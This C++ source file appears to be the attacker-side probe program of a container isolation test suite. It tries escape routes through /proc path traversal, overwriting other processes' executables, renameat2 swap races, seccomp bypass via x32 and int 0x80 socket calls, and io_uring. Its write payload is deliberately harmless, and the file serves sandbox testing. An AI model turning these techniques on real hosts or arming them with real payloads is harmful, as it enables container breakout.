// The attacker's program: it runs inside of a container (static, as /bin/probe of the image) or beside it.
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <poll.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <climits>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

volatile sig_atomic_t stopped = 0;
void stop(int) { stopped = 1; }

std::vector<std::string> entries(const std::string& path) {
  std::vector<std::string> names;
  if (DIR* directory = opendir(path.c_str())) {
    while (const dirent* entry = readdir(directory))
      if (entry->d_name[0] != '.') names.emplace_back(entry->d_name);
    closedir(directory);
  }
  return names;
}

std::vector<std::string> other_processes() {
  std::vector<std::string> result;
  for (const std::string& name : entries("/proc"))
    if (name.find_first_not_of("0123456789") == std::string::npos && std::stol(name) != getpid())
      result.push_back("/proc/" + name);
  return result;
}

// Every descriptor that is open, on one line; then the working directory as the kernel names it.
int descriptors() {
  for (int fd = 0; fd < 4096; ++fd)
    if (fcntl(fd, F_GETFD) != -1) std::printf("%d ", fd);
  char where[PATH_MAX] = "";
  const long length = syscall(SYS_getcwd, where, sizeof where);
  std::printf("in %s\n", length < 0 ? std::strerror(errno) : where);
  return 0;
}

// Can PATH of the host be reached from the working directory or from a descriptor that is open?
int reach(const char* path) {
  const std::string up = "../../../../../../../../../..";
  bool reached = access((up + path).c_str(), F_OK) == 0;
  for (int fd = 0; fd < 4096; ++fd) reached |= faccessat(fd, (up + path).c_str(), F_OK, 0) == 0;
  std::puts(reached ? "REACHED" : "kept out");
  return 0;
}

// Until SIGTERM: looks for PATH of the host by way of whatever /proc shows of other processes.
int look(const std::string& path) {
  long tries = 0, seen = 0;
  const std::string up = "/../../../../../../../../../..";
  std::puts("ready");
  std::fflush(stdout);
  while (stopped == 0)
    for (const std::string& process : other_processes()) {
      std::vector<std::string> ways{process + "/root", process + "/cwd"};
      for (const std::string& fd : entries(process + "/fd")) ways.push_back(process + "/fd/" + fd);
      for (const std::string& way : ways) {
        ++tries;
        seen += access((way + path).c_str(), F_OK) == 0 || access((way + up + path).c_str(), F_OK) == 0;
      }
    }
  std::printf("tries %ld\nseen %ld\n", tries, seen);
  return 0;
}

// Until SIGTERM: opens the program of every other process to write it, at once and, since a program that runs is
// busy, again through a descriptor that outlives it.
int write_programs() {
  long tries = 0, written = 0;
  std::vector<int> held;
  const auto overwrite = [&](const std::string& path) {
    ++tries;
    const int fd = open(path.c_str(), O_WRONLY);
    if (fd < 0) return;
    // Harmless to whoever starts it then: what is no program at all a shell would read as a script.
    written += pwrite(fd, "#!/bin/false\n", 13, 0) == 13;
    close(fd);
  };
  std::puts("ready");
  std::fflush(stdout);
  while (stopped == 0) {
    for (const std::string& process : other_processes()) {
      overwrite(process + "/exe");
      if (const int fd = open((process + "/exe").c_str(), O_RDONLY); fd >= 0) held.push_back(fd);
    }
    for (const int fd : held) overwrite("/proc/self/fd/" + std::to_string(fd));
    if (held.size() > 200) {
      for (const int fd : held) close(fd);
      held.clear();
    }
  }
  std::printf("tries %ld\nwritten %ld\n", tries, written);
  return 0;
}

// Exchanges A and B (renameat2(2), RENAME_EXCHANGE) until standard input ends, and LEAST times at the least.
int swap(const char* a, const char* b, long least) {
  long rounds = 0;
  std::puts("ready");
  std::fflush(stdout);
  pollfd input{.fd = 0, .events = POLLIN, .revents = 0};
  while (rounds < least || poll(&input, 1, 0) == 0)
    for (int i = 0; i < 1000; ++i, ++rounds)
      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) {
        std::perror("renameat2");
        return 1;
      }
  std::printf("rounds %ld\n", rounds);
  return 0;
}

// The calls that make a socket, each in a process of its own, since a filter may kill for it.
long call(const std::string& how, long family, long type) {
  if (how == "native") return syscall(SYS_socket, family, type, 0) < 0 ? -errno : 0;
#if defined(__x86_64__)
  long result = 0;
  if (how == "x32") {
    asm volatile("syscall"
                 : "=a"(result)
                 : "a"(0x40000000L | SYS_socket), "D"(family), "S"(type), "d"(0L)
                 : "rcx", "r11", "memory");
    return result;
  }
  if (how == "int80")  // socket(2) of i386
    asm volatile("int $0x80" : "=a"(result) : "a"(359L), "b"(family), "c"(type), "d"(0L) : "memory");
  if (how == "int80-socketcall") {  // socketcall(SYS_SOCKET, ...): its arguments lie in the low 4 GiB
    static auto* arguments = static_cast<unsigned*>(
        ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
    if (arguments == MAP_FAILED) return -errno;
    arguments[0] = static_cast<unsigned>(family);
    arguments[1] = static_cast<unsigned>(type);
    arguments[2] = 0;
    asm volatile("int $0x80" : "=a"(result) : "a"(102L), "b"(1L), "c"(arguments) : "memory");
  }
  return static_cast<int>(result) < 0 ? static_cast<int>(result) : 0;
#else
  return -ENOSYS;
#endif
}

int sockets(const std::string& how) {
  for (long family = 0; family <= 45; ++family) {
    std::string answers;
    for (const long type : {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET}) {
      const pid_t child = fork();
      if (child == 0) _exit(static_cast<int>(-call(how, family, type)) & 0xff);
      int status = 0;
      waitpid(child, &status, 0);
      if (WIFSIGNALED(status))
        answers += WTERMSIG(status) == SIGSYS ? " killed" : " signal-" + std::to_string(WTERMSIG(status));
      else
        answers += WEXITSTATUS(status) == 0 ? " made" : " " + std::to_string(WEXITSTATUS(status));
    }
    std::printf("%ld%s\n", family, answers.c_str());
  }
  return 0;
}

// Opens every file below PATH to write it; nothing is written.
void open_below(const std::string& path, int depth, long& tries, long& opened) {
  for (const std::string& name : entries(path)) {
    const std::string file = path + "/" + name;
    if (const int fd = open(file.c_str(), O_WRONLY | O_NOFOLLOW | O_NONBLOCK); fd >= 0) {
      std::printf("OPENED %s\n", file.c_str());
      ++opened;
      close(fd);
    }
    ++tries;
    if (depth > 0) open_below(file, depth - 1, tries, opened);
  }
}

int ring() {
  char parameters[256] = "";  // struct io_uring_params has 120 bytes
  if (syscall(SYS_io_uring_setup, 1, parameters) < 0)
    std::printf("io_uring_setup: %s\n", std::strerror(errno));
  else
    std::puts("MADE");
  return 0;
}

int write_below(const std::string& path) {
  long tries = 0, opened = 0;
  open_below(path, 4, tries, opened);
  std::printf("tries %ld\nopened %ld\n", tries, opened);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::signal(SIGTERM, stop);
  const std::string word = argc > 1 ? argv[1] : "";
  if (word == "descriptors") return descriptors();
  if (word == "reach" && argc == 3) return reach(argv[2]);
  if (word == "look" && argc == 3) return look(argv[2]);
  if (word == "write-programs") return write_programs();
  if (word == "swap" && argc == 5) return swap(argv[2], argv[3], std::strtol(argv[4], nullptr, 10));
  if (word == "sockets" && argc == 3) return sockets(argv[2]);
  if (word == "ring") return ring();
  if (word == "write-below" && argc == 3) return write_below(argv[2]);
  std::fputs("probe: unknown word\n", stderr);
  return 2;
}
